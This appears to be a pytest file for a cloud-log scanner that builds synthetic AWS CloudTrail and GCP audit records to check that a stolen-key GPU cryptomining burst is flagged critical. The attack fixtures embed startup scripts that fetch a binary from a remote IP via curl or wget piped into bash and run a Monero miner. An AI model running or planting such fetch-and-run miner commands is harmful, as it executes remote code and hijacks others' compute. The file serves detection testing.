"""Cloud audit logs written to the providers' documented schemas (CloudTrail records in the
per-region folder layout, gzipped; GCP LogEntry JSON lines and a `gcloud logging read`
array): a stolen-key GPU burst is one critical finding naming the principal; a busy benign
account (Auto Scaling, CI launching a few GPU runners, key rotation) stays below medium."""

from __future__ import annotations

import base64
import gzip
import itertools
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from minehunt.model import Severity
from tests.conftest import run_cli

ACCOUNT = "123456789012"
T0 = datetime(2026, 11, 27, 0, 0, tzinfo=UTC)
_ids = itertools.count()


def _iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def ct(
    t: datetime, name: str, user: str, region: str = "us-east-1", **extra: Any
) -> dict[str, Any]:
    """One CloudTrail record (eventVersion 1.08 fields)."""
    source = {
        "RunInstances": "ec2", "AuthorizeSecurityGroupEgress": "ec2",
        "AuthorizeSecurityGroupIngress": "ec2", "DescribeInstances": "ec2",
        "CreateAccessKey": "iam", "RequestServiceQuotaIncrease": "servicequotas",
        "StopLogging": "cloudtrail", "ListBuckets": "s3",
    }.get(name, "ec2")  # fmt: skip
    rec: dict[str, Any] = {
        "eventVersion": "1.08",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": f"AIDA{next(_ids):012d}",
            "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}",
            "accountId": ACCOUNT,
            "userName": user,
        },
        "eventTime": _iso(t),
        "eventSource": f"{source}.amazonaws.com",
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": extra.pop("ip", "198.51.100.7"),
        "userAgent": "aws-cli/2.15.0",
        "requestParameters": extra.pop("request", None),
        "responseElements": extra.pop("response", None),
        "eventID": f"ev-{next(_ids)}",
        "eventType": "AwsApiCall",
        "recipientAccountId": ACCOUNT,
    }
    rec.update(extra)
    return rec


def run_instances(itype: str, count: int, user_data: str | None = None) -> dict[str, Any]:
    req: dict[str, Any] = {
        "instancesSet": {
            "items": [{"imageId": "ami-0abcdef1234567890", "minCount": 1, "maxCount": count}]
        },
        "instanceType": itype,
    }
    if user_data is not None:
        req["userData"] = base64.b64encode(user_data.encode()).decode()
    return req


def _write_trail(root: Path, records: list[dict[str, Any]]) -> Path:
    """AWSLogs/<account>/CloudTrail/<region>/YYYY/MM/DD/<file>.json.gz, one file per hour."""
    buckets: dict[tuple[str, str], list[dict[str, Any]]] = {}
    for r in records:
        buckets.setdefault((r["awsRegion"], r["eventTime"][:13]), []).append(r)
    base = root / "AWSLogs" / ACCOUNT / "CloudTrail"
    for (region, hour), recs in buckets.items():
        day = hour[:10].replace("-", "/")
        stamp = hour.replace("-", "").replace("T", "T") + "00Z"
        f = base / region / day / f"{ACCOUNT}_CloudTrail_{region}_{stamp}_x{next(_ids)}.json.gz"
        f.parent.mkdir(parents=True, exist_ok=True)
        with gzip.open(f, "wt") as fh:
            json.dump({"Records": recs}, fh)
    return root / "AWSLogs"


def benign_account() -> list[dict[str, Any]]:
    recs = []
    for h in range(72):
        t = T0 + timedelta(hours=h)
        recs.append(ct(t, "DescribeInstances", "ops", request={"maxResults": 100}))
        # Auto Scaling launching web servers for the account
        auto = ct(
            t + timedelta(minutes=5),
            "RunInstances",
            "AutoScaling",
            request=run_instances("c5.large", 2),
        )
        auto["userIdentity"] = {"type": "AWSService", "invokedBy": "autoscaling.amazonaws.com"}
        recs.append(auto)
        # CI starting GPU test runners, two an hour, in the region it always uses
        if h % 3 == 0:
            recs.append(ct(t + timedelta(minutes=10), "RunInstances", "ci-runner",
                           request=run_instances("g4dn.xlarge", 2, "#!/bin/sh\ncurl -fsSL https://ci.example.com/agent.sh | sh\n")))  # fmt: skip
        # big batch job on large CPU instances, once a day, in an old region
        if h % 24 == 2:
            recs.append(
                ct(
                    t,
                    "RunInstances",
                    "batch",
                    region="eu-west-1",
                    request=run_instances("c6i.16xlarge", 3),
                )
            )
    # key rotation without any launch after it; ordinary firewall changes
    recs.append(
        ct(T0 + timedelta(hours=30), "CreateAccessKey", "admin", request={"userName": "reporting"})
    )
    recs.append(ct(T0 + timedelta(hours=31), "AuthorizeSecurityGroupIngress", "ops",
                   request={"groupId": "sg-1", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443}]}}))  # fmt: skip
    recs.append(ct(T0 + timedelta(hours=32), "RequestServiceQuotaIncrease", "ops",
                   request={"serviceCode": "ec2", "quotaCode": "L-1216C47A", "desiredValue": 256}))  # fmt: skip
    return recs


MINER_SCRIPT = (
    "#!/bin/bash\ncurl -s http://203.0.113.50/x -o /tmp/.x && chmod +x /tmp/.x\n"
    "/tmp/.x -o stratum+tcp://pool.supportxmr.com:3333 -u 4ABC --donate-level 1 -B\n"
)


def attack() -> list[dict[str, Any]]:
    t = T0 + timedelta(days=2, hours=3, minutes=12)
    ip = "192.0.2.66"
    return [
        ct(t - timedelta(minutes=40), "CreateAccessKey", "admin", ip=ip, request={"userName": "svc-backup"}),
        ct(t - timedelta(minutes=30), "RequestServiceQuotaIncrease", "svc-backup", ip=ip,
           request={"serviceCode": "ec2", "quotaCode": "L-417A185B", "desiredValue": 512}),
        ct(t - timedelta(minutes=20), "StopLogging", "svc-backup", ip=ip, request={"name": "main"}),
        ct(t - timedelta(minutes=10), "AuthorizeSecurityGroupEgress", "svc-backup", region="ap-south-1", ip=ip,
           request={"groupId": "sg-9", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 3333, "toPort": 3333}]}}),
        ct(t, "RunInstances", "svc-backup", region="ap-south-1", ip=ip, request=run_instances("p3.16xlarge", 4, MINER_SCRIPT)),
        ct(t + timedelta(minutes=2), "RunInstances", "svc-backup", region="sa-east-1", ip=ip,
           request=run_instances("g5.12xlarge", 4, MINER_SCRIPT)),
        ct(t + timedelta(minutes=3), "RunInstances", "svc-backup", region="eu-north-1", ip=ip,
           request=run_instances("p4d.24xlarge", 2), errorCode="Client.VcpuLimitExceeded",
           errorMessage="You have requested more vCPU capacity than your current vCPU limit"),
    ]  # fmt: skip


def _scan(
    kind: str, *paths: Path
) -> tuple[int, dict[str, dict[str, Any]], list[dict[str, str]], str]:
    r = run_cli(
        "scan", "logs", kind, *map(str, paths), "--format", "json", "--min-severity", "info"
    )
    data = json.loads(r.stdout) if r.stdout.strip() else {"findings": [], "skipped": []}
    return r.code, {f["target"]["name"]: f for f in data["findings"]}, data["skipped"], r.stderr


def test_stolen_key_gpu_burst_is_one_critical_finding(tmp_path: Path) -> None:
    root = _write_trail(tmp_path, benign_account() + attack())
    code, found, skipped, err = _scan("cloudtrail", root)
    assert code == 1, err
    f = found[f"aws {ACCOUNT} arn:aws:iam::{ACCOUNT}:user/svc-backup"]
    assert Severity(f["severity"]) == Severity.CRITICAL
    ids = {e["check_id"] for e in f["evidence"]}
    assert {"MH-CLOUD-001", "MH-CLOUD-002", "MH-CLOUD-003", "MH-CLOUD-004", "MH-CLOUD-005",
            "MH-CLOUD-006", "MH-CLOUD-007"} <= ids  # fmt: skip
    burst = next(e for e in f["evidence"] if e["check_id"] == "MH-CLOUD-001")
    assert burst["attributes"]["instances"] == 10 and burst["attributes"]["regions"] == 3
    assert "refused" in burst["summary"]
    region = next(e for e in f["evidence"] if e["check_id"] == "MH-CLOUD-002")
    assert "ap-south-1" in region["summary"] and "us-east-1" not in region["summary"]
    assert all(e["source"].endswith(".json.gz") for e in f["evidence"])
    loud = [n for n, x in found.items() if Severity(x["severity"]) >= Severity.MEDIUM]
    assert loud == [f"aws {ACCOUNT} arn:aws:iam::{ACCOUNT}:user/svc-backup"]
    assert not skipped


def test_busy_benign_account_stays_below_medium(tmp_path: Path) -> None:
    code, found, skipped, err = _scan("cloudtrail", _write_trail(tmp_path, benign_account()))
    assert code == 0, err
    assert not [n for n, f in found.items() if Severity(f["severity"]) >= Severity.MEDIUM]
    # CI's few GPU runners are still visible, as low
    assert (
        Severity(found[f"aws {ACCOUNT} arn:aws:iam::{ACCOUNT}:user/ci-runner"]["severity"])
        == Severity.LOW
    )
    assert not skipped


def test_corrupt_and_incomplete_trail_files_are_skipped_not_fatal(tmp_path: Path) -> None:
    root = _write_trail(tmp_path, attack())
    region_dir = next(root.rglob("ap-south-1"))
    (region_dir / "broken.json.gz").write_bytes(gzip.compress(b'{"Records": [')[:-6])
    (region_dir / "notjson.json").write_text("this is not json\n")
    with gzip.open(region_dir / "sparse.json.gz", "wt") as fh:
        json.dump(
            {"Records": [{"eventName": "RunInstances"}, {}, {"eventTime": "year 518069"}]}, fh
        )
    code, found, skipped, err = _scan("cloudtrail", root)
    assert code == 1, err
    assert any(n.endswith("user/svc-backup") for n in found)
    reasons = {Path(s["target"]).name: s["reason"] for s in skipped}
    assert "broken.json.gz" in reasons and "notjson.json" in reasons
    assert "Traceback" not in err


# -- Google Cloud ------------------------------------------------------------------------------


def gcp(t: datetime, method: str, who: str, zone: str, request: dict[str, Any] | None = None,
        resource: str = "") -> dict[str, Any]:  # fmt: skip
    """One Cloud Audit Logs LogEntry (admin activity)."""
    return {
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": who},
            "requestMetadata": {"callerIp": "192.0.2.66"},
            "serviceName": "compute.googleapis.com",
            "methodName": method,
            "resourceName": resource,
            "request": request or {},
        },
        "insertId": f"i{next(_ids)}",
        "resource": {"type": "gce_instance", "labels": {"project_id": "shop-prod", "zone": zone}},
        "timestamp": _iso(t),
        "severity": "NOTICE",
        "logName": "projects/shop-prod/logs/cloudaudit.googleapis.com%2Factivity",
    }


def test_gcp_service_account_key_then_gpu_burst(tmp_path: Path) -> None:
    events = []
    for h in range(48):  # GKE's autoscaler adding ordinary nodes in the usual zone
        events.append(gcp(T0 + timedelta(hours=h), "v1.compute.instances.insert",
                          "123-compute@developer.gserviceaccount.com", "europe-west1-b",
                          {"machineType": "zones/europe-west1-b/machineTypes/e2-standard-4"}))  # fmt: skip
    t = T0 + timedelta(days=2, hours=5)
    sa = "ci-deployer@shop-prod.iam.gserviceaccount.com"
    events.append(gcp(t - timedelta(minutes=50), "google.iam.admin.v1.CreateServiceAccountKey",
                      "owner@example.com", "global", {"name": f"projects/-/serviceAccounts/{sa}"},
                      resource=f"projects/-/serviceAccounts/{sa}"))  # fmt: skip
    script = "#!/bin/bash\nwget -qO- http://203.0.113.50/m.sh | bash\n./kworker -o gulf.moneroocean.stream:10128\n"
    for i, zone in enumerate(["asia-southeast1-b", "southamerica-east1-a", "us-west4-a"]):
        events.append(gcp(t + timedelta(minutes=i), "beta.compute.instances.insert", sa, zone, {
            "machineType": f"zones/{zone}/machineTypes/a2-highgpu-8g",
            "guestAccelerators": [{"acceleratorType": "nvidia-tesla-a100", "acceleratorCount": 8}],
            "metadata": {"items": [{"key": "startup-script", "value": script}]},
        }))  # fmt: skip
    jsonl = tmp_path / "activity.jsonl"
    jsonl.write_text("".join(json.dumps(e) + "\n" for e in events[:30]))
    array = tmp_path / "read.json"
    array.write_text(json.dumps(events[30:]))  # `gcloud logging read --format=json`
    code, found, skipped, err = _scan("gcp-audit", jsonl, array)
    assert code == 1, err
    f = found[f"gcp shop-prod {sa}"]
    assert Severity(f["severity"]) == Severity.CRITICAL
    ids = {e["check_id"] for e in f["evidence"]}
    assert {"MH-CLOUD-001", "MH-CLOUD-002", "MH-CLOUD-003", "MH-CLOUD-006"} <= ids
    # the autoscaler's ordinary nodes are no evidence at all
    assert "gcp shop-prod 123-compute@developer.gserviceaccount.com" not in found
    assert not skipped


@pytest.mark.parametrize("kind", ["cloudtrail", "gcp-audit"])
def test_missing_path_is_a_usage_error(tmp_path: Path, kind: str) -> None:
    r = run_cli("scan", "logs", kind, str(tmp_path / "nope"))
    assert r.code == 2 and "Traceback" not in r.stderr
